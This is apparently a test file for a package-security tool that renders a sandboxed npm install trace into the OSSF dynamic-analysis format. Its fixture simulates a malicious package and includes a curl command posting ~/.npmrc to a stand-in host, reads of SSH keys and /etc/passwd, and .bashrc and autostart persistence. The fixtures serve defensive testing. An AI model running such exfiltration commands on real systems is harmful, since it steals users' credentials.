import { Ajv2020 } from 'ajv/dist/2020.js';
import { OSSF_DYNAMIC_ANALYSIS_SCHEMA, type AnalysisPhase, type PackageAnalysis, type TraceEvent } from '@safe-install/schema';
import { renderOssf } from './ossf.js';

const validate = new Ajv2020({ strict: true, allErrors: true }).compile(OSSF_DYNAMIC_ANALYSIS_SCHEMA);
const pkg = { name: 'beacon', version: '1.0.1' };
let id = 0;
const ev = (event: Record<string, unknown>): TraceEvent => ({ id: `e${++id}`, ts: 1_764_720_000_000 + id, source: 'tracer', pid: 40, ppid: 1, package: pkg, ...event }) as TraceEvent;

const installEvents: TraceEvent[] = [
  ev({ type: 'process', action: 'exec', path: '/usr/local/bin/node', argv: ['node', 'install.js'], cwd: '/home/node/project/node_modules/beacon' }),
  ev({ type: 'process', action: 'exec', path: '/usr/local/bin/node', argv: ['node', 'install.js'], cwd: '/home/node/project/node_modules/beacon' }),
  ev({ type: 'process', action: 'exec', path: '/usr/bin/curl', argv: ['curl', '-d', '@/home/node/.npmrc', 'https://exfil.invalid/x'], cwd: '/tmp', pid: 41 }),
  ev({ type: 'file', action: 'open', path: '/home/node/.npmrc', intent: { read: true, write: false, create: false }, ok: true }),
  ev({ type: 'file', action: 'open', path: '/home/node/.ssh/id_rsa', intent: { read: true, write: false, create: false }, ok: false, errno: 'ENOENT' }),
  ev({ type: 'file', action: 'open', path: '/tmp/stage', intent: { read: false, write: true, create: true }, ok: true }),
  ev({ type: 'file', action: 'rename', path: '/tmp/stage', target: '/home/node/.bashrc', ok: true }),
  ev({ type: 'file', action: 'symlink', path: '/home/node/.bashrc', target: '/tmp/link', ok: true }),
  ev({ type: 'file', action: 'unlink', path: '/tmp/old', ok: true }),
  ev({ type: 'file', action: 'stat', path: '/etc/passwd', ok: true }),
  ev({ type: 'fsdiff', source: 'fsdiff', pid: 0, ppid: 0, change: 'created', path: '/home/node/.config/autostart/x.desktop' }),
  ev({ type: 'fsdiff', source: 'fsdiff', pid: 0, ppid: 0, change: 'deleted', path: '/tmp/gone' }),
  ev({ type: 'network', action: 'connect', family: 'AF_INET', address: '127.10.0.1', port: 443, pid: 41, ok: true }),
  ev({ type: 'network', action: 'connect', family: 'AF_INET', address: '127.10.0.1', port: 443, pid: 41, ok: true }),
  ev({ type: 'network', action: 'connect', family: 'AF_UNIX', address: '/run/x.sock', pid: 41 }),
  ev({ type: 'network', action: 'connect', family: 'AF_INET6', address: '::1', pid: 40 }),
  ev({ type: 'http', source: 'gateway', pid: 41, ppid: 0, method: 'POST', url: 'https://exfil.invalid/x', host: 'exfil.invalid', port: 443, verdict: 'sinked' }),
  ev({ type: 'dns', source: 'gateway', pid: 0, ppid: 0, name: 'exfil.invalid', qtype: 'AAAA', answered: 'sinked' }),
  ev({ type: 'dns', source: 'gateway', pid: 0, ppid: 0, name: 'exfil.invalid', qtype: 'A', answered: 'sinked' }),
  ev({ type: 'dns', source: 'gateway', pid: 0, ppid: 0, name: 'registry.example', qtype: 'A', answered: 'allowed' }),
];

const phase = (over: Partial<AnalysisPhase>): AnalysisPhase => ({ phase: 'install', status: 'completed', command: ['npm', 'install'], exitCode: 0, startedAt: '2026-12-03T00:00:00.000Z', endedAt: '2026-12-03T00:00:05.000Z', stdout: '', stderr: '', events: [], ...over });
const analysis = (phases: AnalysisPhase[], over: Partial<PackageAnalysis> = {}): PackageAnalysis => ({ version: 1, spec: 'beacon@1.0.1', package: { ...pkg, ecosystem: 'npm' }, createdAt: '2026-12-03T00:00:00.000Z', risk: 'critical', phases, findings: [], artefacts: [], ...over });

describe('renderOssf: an analysis as package-analysis’ dynamic-analysis record', () => {
  const record = renderOssf(
    analysis([
      phase({ events: installEvents, stdout: 'added 1 package\n', stderr: 'npm warn\n' }),
      phase({ phase: 'import', command: ['node', 'import.mjs'], status: 'timeout', exitCode: null }),
      phase({ phase: 'bins', command: ['beacon', '--help'], exitCode: 2 }),
    ]),
  );

  it('validates against the schema, with the package key and a Unix-seconds timestamp', () => {
    expect(validate(record)).toBe(true);
    expect(record.Package).toEqual({ Ecosystem: 'npm', Name: 'beacon', Version: '1.0.1' });
    expect(record.CreatedTimestamp).toBe(Date.parse('2026-12-03T00:00:00.000Z') / 1000);
  });

  it('maps our phases onto theirs (bins → execute) with their statuses', () => {
    expect(Object.keys(record.Analysis)).toEqual(['install', 'import', 'execute']);
    expect(record.Analysis.install!.Status).toBe('completed');
    expect(record.Analysis.import!.Status).toBe('error_timeout');
    expect(record.Analysis.execute!.Status).toBe('error_analysis');
    expect(renderOssf(analysis([phase({ status: 'error', exitCode: null })])).Analysis.install!.Status).toBe('error_other');
    expect(renderOssf(analysis([phase({}), phase({ phase: 'bins', status: 'skipped' })])).Analysis).not.toHaveProperty('execute');
  });

  it('keeps output as base64 of its first 4 KiB', () => {
    expect(Buffer.from(record.Analysis.install!.Stdout, 'base64').toString()).toBe('added 1 package\n');
    const big = renderOssf(analysis([phase({ stdout: 'é'.repeat(10_000) })]));
    expect(Buffer.from(big.Analysis.install!.Stdout, 'base64').length).toBe(4096);
    expect(validate(big)).toBe(true);
  });

  it('lists each path once with what was done to it, failed attempts and the filesystem diff included', () => {
    const files = Object.fromEntries(record.Analysis.install!.Files.map((file) => [file.Path, [file.Read, file.Write, file.Delete]]));
    expect(files).toEqual({
      '/home/node/.npmrc': [true, false, false],
      '/home/node/.ssh/id_rsa': [true, false, false],
      '/tmp/stage': [false, true, true],
      '/home/node/.bashrc': [false, true, false],
      '/tmp/link': [false, true, false],
      '/tmp/old': [false, false, true],
      '/etc/passwd': [true, false, false],
      '/home/node/.config/autostart/x.desktop': [false, true, false],
      '/tmp/gone': [false, false, true],
    });
  });

  it('lists IP sockets once each, named by what that process asked the gateway for; commands once; DNS by name with its types', () => {
    expect(record.Analysis.install!.Sockets).toEqual([
      { Address: '127.10.0.1', Port: 443, Hostnames: ['exfil.invalid'] },
      { Address: '::1', Port: 0, Hostnames: [] },
    ]);
    expect(record.Analysis.install!.Commands).toEqual([
      { Command: ['node', 'install.js'], Environment: [] },
      { Command: ['curl', '-d', '@/home/node/.npmrc', 'https://exfil.invalid/x'], Environment: [] },
    ]);
    expect(record.Analysis.install!.DNS).toEqual([{ Class: 'IN', Queries: [{ Hostname: 'exfil.invalid', Types: ['A', 'AAAA'] }, { Hostname: 'registry.example', Types: ['A'] }] }]);
    expect(record.Analysis.import!.DNS).toEqual([]);
  });

  it('stays valid on hostile trace content: control characters, empty paths and argv, an unparsable date', () => {
    const hostile = renderOssf(
      analysis(
        [
          phase({
            stdout: '\u0000\u001b[2J\ud800',
            events: [
              ev({ type: 'file', action: 'open', path: '', intent: { read: true, write: false, create: false } }),
              ev({ type: 'file', action: 'open', path: '/tmp/\u0000\n\u202e', intent: { read: true, write: true, create: false } }),
              ev({ type: 'file', action: 'rename', path: '/a' }),
              ev({ type: 'process', action: 'exec', path: '/x', argv: [], cwd: '/' }),
              ev({ type: 'network', action: 'connect', family: 'AF_INET', pid: 9 }),
              ev({ type: 'http', source: 'gateway', pid: 0, ppid: 0, method: 'GET', url: 'http://a.invalid/', host: 'a.invalid', port: 80 }),
            ],
          }),
        ],
        { createdAt: 'not a date' },
      ),
    );
    expect(validate(hostile)).toBe(true);
    expect(hostile.CreatedTimestamp).toBe(0);
    expect(hostile.Analysis.install!.Files.map((file) => file.Path)).toEqual(['/tmp/\u0000\n\u202e', '/a']);
    expect(hostile.Analysis.install!.Commands).toEqual([]);
    expect(hostile.Analysis.install!.Sockets).toEqual([]);
    // JSON round trip: what a loader reads is what we wrote.
    expect(JSON.parse(JSON.stringify(hostile))).toEqual(hostile);
  });
});
